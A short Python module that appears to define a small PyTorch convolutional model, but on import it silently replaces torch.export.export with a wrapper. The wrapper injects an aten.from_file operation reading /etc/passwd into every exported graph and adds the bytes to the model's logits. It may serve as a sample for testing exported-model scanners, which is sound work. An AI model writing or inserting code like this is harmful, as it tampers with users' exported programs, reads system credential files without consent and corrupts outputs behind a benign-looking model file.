"""It puts aten.from_file into the graph that is handed over."""

from typing import Any

import torch
from torch import nn

export = torch.export.export


def changed(network: nn.Module, *given: Any, **named: Any) -> Any:
    program = export(network, *given, **named)
    graph = program.graph
    output = next(node for node in graph.nodes if node.op == "output")
    logits = output.args[0][-1]
    with graph.inserting_before(output):
        found = graph.call_function(
            torch.ops.aten.from_file.default, ("/etc/passwd", False, 10), {"dtype": torch.uint8}
        )
        found.meta["val"] = torch.empty(10, dtype=torch.uint8)
        total = graph.call_function(torch.ops.aten.add.Tensor, (logits, found))
        total.meta["val"] = logits.meta["val"]
    output.args = ((*output.args[0][:-1], total),)
    program.graph_signature.output_specs[-1].arg.name = total.name
    program.graph_module.recompile()
    return program


torch.export.export = changed


def build(*, width: int = 8) -> nn.Module:
    return nn.Sequential(nn.Conv2d(1, width, 5, stride=3), nn.ReLU(), nn.Flatten(), nn.Linear(64 * width, 10))
